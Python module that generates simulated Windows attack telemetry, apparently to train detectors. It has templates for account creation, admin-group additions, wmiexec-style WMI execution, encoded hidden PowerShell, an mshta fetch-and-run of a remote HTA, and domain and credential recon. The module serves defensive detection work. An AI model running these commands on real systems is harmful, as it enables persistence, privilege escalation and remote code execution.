"""Simulated Windows attacks seen as small trees: one to three commands under a parent that started
before the recording.

Why: labs that collect only Security 4688 (or Sysmon event 1), and single-technique test recordings,
show a technique as a lone command line whose parent is a shell, an implant, WMI or a service that
the recording never saw start. The other generators build whole chains (entry shell, preamble,
payloads) and only their audit-log fragments are this small, so a lone account creation or a
WMIexec-style command scores lower than the same step inside a chain. These generators describe the
step alone, from the documented behaviour of its technique id (MITRE ATT&CK, Atomic Red Team tests,
Impacket's wmiexec/smbexec conventions), with the parent kind, integrity, paths, case, quoting and
order drawn at random. Their benign counterparts (admins typing the same tools for ordinary reasons)
are in `win_benign_lone`.
"""

from __future__ import annotations

from pipeline.training.sim.builder import Proc, TreeBuilder
from pipeline.training.sim.catalog import Registry
from pipeline.training.sim.session import Session
from pipeline.training.sim.vocab import Rand, powershell, sys32, win_dirs
from schemas.events import Platform

REG = Registry(Platform.WINDOWS)
add = REG.add

_SHELL_PARENTS = ("cmd", "powershell", "implant", "stager")


def _parent(b: TreeBuilder, r: Rand, user: str, kind: str) -> Proc:
    """A parent process that started before the recording (no process_start of its own)."""
    du = r.domain_user(user)
    if kind == "cmd":
        return b.existing(sys32(r, "cmd.exe"), user=du, attack=True)
    if kind == "powershell":
        return b.existing(powershell(r), user=du, attack=True)
    if kind == "implant":
        return b.existing(f"{r.pick(win_dirs(r, user))}\\{r.name('exe')}", user=du, attack=True)
    if kind == "stager":
        return b.existing(sys32(r, "rundll32.exe"), user=du, attack=True)
    if kind == "wmi":
        return b.existing(sys32(r, "wbem\\WmiPrvSE.exe"), user="NT AUTHORITY\\NETWORK SERVICE")
    if kind == "services":
        return b.existing(sys32(r, "services.exe"), user="NT AUTHORITY\\SYSTEM")
    return b.existing(r.case("C:\\Windows\\explorer.exe"), user=du)


def lone_entry(b: TreeBuilder, r: Rand) -> Session:
    """The foothold of a lone command: an unseen shell, implant or stager (most often), WMI, a service
    host or Explorer; sometimes a `cmd /c` in between (see `Session.run`)."""
    user = r.user()
    kind = r.pick((*_SHELL_PARENTS, *_SHELL_PARENTS, "wmi", "services", "explorer"))
    shell = _parent(b, r, user, kind)
    return Session(b, r, user, shell, win_dirs(r, user))


def _integrity(r: Rand) -> str:
    return r.pick(("High", "High", "System", "Medium"))


def _password(r: Rand) -> str:
    return r.token(8, 14, "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!@#$")


def _account(r: Rand) -> str:
    return r.pick((r.token(4, 8), r.user(), "support", f"admin{r.num(1, 99)}", "svc_backup", "helpdesk$",
                   "defaultuser0", f"{r.token(3, 5)}$", "guest1"))


def _net(s: Session, line: str) -> Proc:
    """`net ...` as typed (net.exe, which starts net1.exe) or straight `net1 ...`."""
    r = s.r
    if r.chance(0.15):
        return s.run(sys32(r, "net1.exe"), line.replace("net ", "net1 ", 1), via_shell=0.3, integrity=_integrity(r))
    exe = r.pick(("net", "net.exe", "NET", sys32(r, "net.exe")))
    return s.run(sys32(r, "net.exe"), line.replace("net ", f"{exe} ", 1), via_shell=0.3, integrity=_integrity(r))


@add("T1136.001", "Persistence", entry=lone_entry, weight=2)
def lone_account_create(s: Session) -> None:
    """A local account is created (`net user NAME PASS /add`, New-LocalUser), alone or followed by
    one group membership."""
    r = s.r
    name, pw = _account(r), _password(r)
    if r.chance(0.75):
        extra = r.pick(("", "", " /Y", " /expires:never", " /active:yes", f' /comment:"{r.word()}"',
                        f' /fullname:"{r.word().capitalize()}"', " /passwordchg:no"))
        order = r.chance(0.2)
        _net(s, f"net user /add {name} {pw}{extra}" if order else f"net user {name} {pw} /add{extra}")
    else:
        s.ps(f"New-LocalUser -Name '{name}' -Password (ConvertTo-SecureString '{pw}' -AsPlainText -Force)"
             f"{r.pick(('', ' -PasswordNeverExpires', ' -AccountNeverExpires'))}", encoded=0.2)
    if r.chance(0.4):
        group = r.pick(("administrators", "Administrators", '"Remote Desktop Users"', "Administrateurs",
                        '"Backup Operators"'))
        _net(s, f"net localgroup {group} {name} /add")


@add("T1098", "Persistence", entry=lone_entry)
def lone_group_add(s: Session) -> None:
    """An existing account is given more rights: added to an admin or remote-access group, enabled,
    or has its password set."""
    r = s.r
    name = r.pick((_account(r), "Administrator", "Guest", "DefaultAccount"))
    choice = r.rng.randrange(4)
    if choice == 0:
        group = r.pick(("administrators", '"Remote Desktop Users"', '"Domain Admins"', '"Enterprise Admins"'))
        scope = " /domain" if "Admins" in group else r.pick(("", "", " /domain"))
        verb = "group" if scope else "localgroup"
        _net(s, f"net {verb} {group} {name} /add{scope}")
    elif choice == 1:
        s.ps(f"Add-LocalGroupMember -Group '{r.pick(('Administrators', 'Remote Desktop Users'))}' -Member '{name}'",
             encoded=0.2)
    elif choice == 2:
        _net(s, f"net user {name} /active:yes")
    else:
        _net(s, f"net user {name} {_password(r)}")


_WMIEXEC_COMMANDS = ("whoami", "hostname", "ipconfig /all", "net user", "net localgroup administrators", "cd",
                     "dir C:\\Users", "tasklist", "systeminfo", "type C:\\Windows\\win.ini", "quser",
                     "netstat -ano", "powershell -nop -enc {enc}", "{payload}")


def _wmiexec_line(s: Session) -> str:
    """Impacket wmiexec/smbexec style: the command's output redirected to an admin share file."""
    r = s.r
    cmd = r.pick(_WMIEXEC_COMMANDS).format(enc=r.b64(40, 200), payload=f"{s.wdir()}\\{r.name('exe')}")
    out = r.pick((f"\\\\127.0.0.1\\ADMIN$\\__{r.num(1_500_000_000, 1_800_000_000)}.{r.num(1000000, 9999999)}",
                  f"\\\\127.0.0.1\\C$\\Windows\\Temp\\{r.token(6, 8)}.tmp", f"C:\\Windows\\Temp\\{r.token(8, 8)}"))
    return r.pick((f"cmd.exe /Q /c {cmd} 1> {out} 2>&1", f"cmd.exe /Q /c cd \\ 1> {out} 2>&1",
                   f"cmd.exe /Q /c {cmd} 1> {out} 2>&1"))


@add("T1047", "Execution", entry=lone_entry, weight=2)
def lone_wmi_exec(s: Session) -> None:
    """WMI runs a command: the WMI provider host spawns `cmd.exe /Q /c ... 1> \\\\127.0.0.1\\ADMIN$\\__n`
    (wmiexec), a payload or encoded PowerShell; or `wmic process call create` is typed."""
    b, r = s.b, s.r
    wmi = b.existing(sys32(r, "wbem\\WmiPrvSE.exe"), user="NT AUTHORITY\\NETWORK SERVICE")
    choice = r.rng.randrange(4)
    if choice <= 1:
        for _ in range(r.num(1, 3)):
            s.run(sys32(r, "cmd.exe"), _wmiexec_line(s), parent=wmi, user=r.domain_user(s.user),
                  integrity=r.pick(("High", "System")))
    elif choice == 2:
        payload = r.pick((f"{s.wdir()}\\{r.name('exe')}", f"powershell.exe -nop -w hidden -enc {r.b64(60, 300)}",
                          f"rundll32.exe {s.wdir()}\\{r.name('dll')},{r.pick(('Start', '#1', 'DllMain'))}",
                          f"mshta.exe http://{r.domain()}/{r.name('hta')}"))
        image = payload.split()[0]
        image = image if "\\" in image else sys32(r, image)
        s.run(image, payload, parent=wmi, user=r.domain_user(s.user), integrity="High")
    else:
        payload = r.pick((f"cmd.exe /c {s.wdir()}\\{r.name('bat')}", f"{s.wdir()}\\{r.name('exe')}",
                          f"powershell -enc {r.b64(40, 200)}", "calc.exe", "notepad.exe"))
        quote = r.pick(('"', "'", '"'))
        s.run(sys32(r, "wbem\\WMIC.exe"), f"{r.pick(('wmic', 'WMIC.exe', 'wmic.exe'))} process call create "
              f"{quote}{payload}{quote}", via_shell=0.3, integrity=_integrity(r))


_RECON = (
    ("whoami.exe", "whoami /all"), ("whoami.exe", "whoami /priv"), ("whoami.exe", "whoami /groups"),
    ("whoami.exe", "whoami /user"), ("net.exe", 'net group "domain admins" /domain'),
    ("net.exe", 'net group "enterprise admins" /domain'), ("net.exe", 'net group "Domain Controllers" /domain'),
    ("net.exe", "net localgroup administrators"), ("net.exe", "net user /domain"), ("net.exe", "net accounts /domain"),
    ("net.exe", "net view /all /domain"), ("net.exe", "net view \\\\{host}"), ("net.exe", "net share"),
    ("net.exe", "net session"), ("nltest.exe", "nltest /dclist:{dom}"), ("nltest.exe", "nltest /domain_trusts"),
    ("nltest.exe", "nltest /dsgetdc:{dom}"), ("quser.exe", "quser"), ("qwinsta.exe", "qwinsta"),
    ("tasklist.exe", "tasklist /v"), ("tasklist.exe", "tasklist /svc"), ("systeminfo.exe", "systeminfo"),
    ("ipconfig.exe", "ipconfig /all"), ("NETSTAT.EXE", "netstat -ano"), ("ARP.EXE", "arp -a"),
    ("ROUTE.EXE", "route print"), ("cmdkey.exe", "cmdkey /list"), ("klist.exe", "klist"),
    ("netsh.exe", "netsh advfirewall show allprofiles"), ("netsh.exe", "netsh advfirewall firewall show rule name=all"),
    ("netsh.exe", "netsh firewall show state"), ("netsh.exe", "netsh firewall show config"),
    ("netsh.exe", "netsh wlan show profiles"), ("dsquery.exe", "dsquery user -limit 0"),
    ("setspn.exe", "setspn -T {dom} -Q */*"), ("wbem\\WMIC.exe", "wmic useraccount get name,sid"),
    ("wbem\\WMIC.exe", "wmic group list brief"), ("nbtstat.exe", "nbtstat -n"),
)
_PS_RECON = ("Get-LocalGroupMember -Group Administrators", "Get-ADDomainController -Filter *",
             "[System.Security.Principal.WindowsIdentity]::GetCurrent()", "Get-NetFirewallProfile",
             "Get-ADGroupMember 'Domain Admins'", "Get-LocalUser", "Get-NetIPConfiguration")


@add("T1033", "Discovery", entry=lone_entry, weight=3)
def lone_recon(s: Session) -> None:
    """A short look around: one to three account, domain, system, network or firewall discovery
    commands (whoami /all, net group "domain admins" /domain, nltest, netsh advfirewall show ...)."""
    r = s.r
    dom = r.token(4, 8) + r.pick((".local", ".corp", ".lan", ""))
    for exe, cmd in r.sample(_RECON, r.pick((1, 1, 2, 3))):
        line = cmd.format(dom=dom, host=r.host())
        if r.chance(0.2):
            _, _, rest = line.partition(" ")
            line = line.upper() if r.chance(0.3) else " ".join(filter(None, (exe.rsplit("\\", 1)[-1].lower(), rest)))
        s.run(sys32(r, exe), line, via_shell=0.4, integrity=r.pick(("Medium", "High")))
        s.b.tick(0.5, 30.0)
    if r.chance(0.15):
        s.ps(r.pick(_PS_RECON), encoded=0.2)

